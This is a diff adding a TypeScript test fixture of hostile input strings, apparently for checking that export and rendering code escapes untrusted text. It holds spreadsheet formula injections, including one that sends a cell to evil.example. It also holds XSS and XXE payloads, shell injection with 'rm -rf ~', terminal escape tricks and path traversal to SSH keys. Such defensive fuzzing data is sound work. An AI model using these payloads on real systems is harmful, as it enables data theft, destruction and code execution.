@@ -1,0 +1,200 @@
+/** A text that somebody could put where AWS, a file or a person gives us one. */
+export interface HostileText {
+  readonly about: string;
+  readonly text: string;
+  /** Letters that are drawn from right to left: extraction gives them in the order in which they are drawn. */
+  readonly rtl?: boolean;
+}
+
+const group = (about: string, texts: readonly string[]): HostileText[] => texts.map((text) => ({ about, text }));
+const code = (...points: number[]): string => String.fromCodePoint(...points);
+const range = (from: number, to: number): string[] => Array.from({ length: to - from + 1 }, (_, at) => code(from + at));
+const ESC = '\u001b';
+const BEL = '\u0007';
+const BACKSPACE = '\b';
+
+/** Everything here is well-formed Unicode; half surrogate pairs are apart, because no stored form takes them. */
+const ALL: readonly HostileText[] = [
+  ...group('formula', [
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    '+1+1',
+    '-2+3',
+    '@SUM(1+1)',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '＝1+1',
+    '＋1+1',
+    '－1+1',
+    '＠SUM(1)',
+    'DDE("cmd";"/C calc";"x")',
+    "'=1+1",
+    ' =1+1',
+    '"=1+1"',
+    ';=1+1',
+    '\uFEFF=1+1',
+    '\u200B=1+1',
+  ]),
+  ...group('markup', [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '" onmouseover="alert(1)',
+    "' autofocus onfocus='alert(1)",
+    '</title></style></textarea><b>',
+    'javascript:alert(1)',
+    '&lt;b&gt; &amp; &#x3c; &quot;',
+    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
+    '<![CDATA[x]]>',
+    ']]>',
+    '<?xml version="1.0"?>',
+    '--><!--',
+    '[link](javascript:alert(1))',
+    '| a | b |\n|---|---|',
+  ]),
+  ...group('CSV', [
+    'a,b;c\td',
+    '"',
+    '""',
+    '","',
+    'a"b',
+    'a\r\nb',
+    'a\rb',
+    'a\nb',
+    '"\r\n"',
+    'a\u0085b',
+    'a\u2028b',
+    'a\u2029b',
+    'trailing,',
+    'sep=;',
+  ]),
+  ...group('bidirectional control', [
+    ...[0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x061c, 0x200e, 0x200f].map(
+      (it) => `invoice${code(it)}gpj.exe`,
+    ),
+    '\u202egnp.exe\u202c admin',
+  ]),
+  ...group(
+    'zero width',
+    [0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x034f, 0x180e, 0x3164, 0xffa0, 0xfe0f, 0xe0041].map(
+      (it) => `ad${code(it)}min`,
+    ),
+  ),
+  ...group(
+    'control character',
+    [...range(0x00, 0x1f), ...range(0x7f, 0x9f)].map((it) => `a${it}b`),
+  ),
+  ...group('terminal escape', [
+    `${ESC}[31mred${ESC}[0m`,
+    `${ESC}[2J${ESC}[H`,
+    `${ESC}[1A${ESC}[2K✓ verified`,
+    `${ESC}]8;;http://evil.example${ESC}\\text${ESC}]8;;${ESC}\\`,
+    `${ESC}]52;c;cm0gLXJmIH4=${BEL}`,
+    `${ESC}]0;title${BEL}`,
+    `${ESC}P$q"p${ESC}\\`,
+    `${ESC}[?1049h`,
+    `${ESC}c`,
+    '\u009b31mred',
+    '\u009d0;title\u009c',
+    `failed${BACKSPACE.repeat(6)}passed`,
+    'failed\rpassed',
+    'name\n✓ verified: nothing is wrong with this pack',
+    '\u000e\u000f\u0005',
+  ]),
+  ...group('letters', [
+    `Z${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306'.repeat(20)}algo`,
+    '\u0301starts with a mark',
+    'раураl', // Cyrillic look-alikes
+    'Ａｄｍｉｎ',
+    '👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇺🇳',
+    '日本語の名前',
+    'e\u0301 \u00e9',
+    'ﬁ ﬂ ﷺ',
+    '\u{10FFFF}\uE000\uFFFE',
+    '\u00a0\u2000\u3000nbsp',
+  ]),
+  ...['שלום', 'مرحبا بالعالم', 'abc שלום 123'].map((text) => ({ about: 'right to left', text, rtl: true })),
+  ...group('path', [
+    '../../etc/passwd',
+    '..\\..\\windows\\win.ini',
+    '/etc/passwd',
+    'C:\\Windows\\System32',
+    '\\\\server\\share',
+    'CON',
+    'NUL.txt',
+    '~/.ssh/id_rsa',
+    'file:///etc/passwd',
+    '-rf',
+    '--help',
+    '.',
+    '..',
+    'a/b',
+  ]),
+  ...group('data format', [
+    '"}],"x":[{"',
+    '\\',
+    '\\u0000',
+    '\\"',
+    '{{7*7}} #{7*7} <%= 7*7 %>',
+    ['$', '{7*7}'].join(''),
+    '__proto__',
+    'constructor',
+    'toString',
+    'hasOwnProperty',
+    'undefined',
+    'null',
+    'NaN',
+    'true',
+    '%s%n%x %d %1$s',
+    '%00 %0d%0a %2e%2e',
+    '$(touch /tmp/x) `id` ; rm -rf ~ | cat & $IFS',
+    "'; DROP TABLE evidence; --",
+    ': yaml',
+    '- yaml',
+    '? yaml',
+    '!!js/function "x"',
+    '&anchor *alias',
+    '# no comment',
+    '%YAML 1.2',
+    '--- \n...',
+    '@tag',
+    '`',
+    '|',
+    '>',
+  ]),
+  ...group('PDF', [
+    '(',
+    ')',
+    '()))((',
+    '\\',
+    '\\)',
+    '<<',
+    '>>',
+    '<feff>',
+    'endobj',
+    '\nendobj\n',
+    'endstream',
+    'BT /F1 12 Tf (x) Tj ET',
+    '/JavaScript (app.alert(1))',
+    '/OpenAction << /S /JavaScript /JS (x) >>',
+    '%PDF-1.7',
+    '%%EOF',
+    '\\u{202E}',
+  ]),
+  ...group('blank', ['', ' ', '   ', '\t', '\n', '\r\n', '\u00a0', '\u200b', '\u0000']),
+  ...group('long', [
+    'x'.repeat(10_000),
+    'word '.repeat(2_000).trim(),
+    'W'.repeat(256),
+    '日'.repeat(3_000),
+    'a/'.repeat(512),
+    `long tag ${'-'.repeat(4_000)} comment`,
+  ]),
+];
+
+/** Each text once. */
+export const HOSTILE: readonly HostileText[] = [...new Map(ALL.map((it) => [it.text, it])).values()];
+
+/** Halves of surrogate pairs: no UTF-8 holds them, and canonical JSON refuses them. */
+export const HALF_PAIRS: readonly string[] = ['\ud800', 'a\udfffb', '\udc00\ud800', 'x\ud83d'];
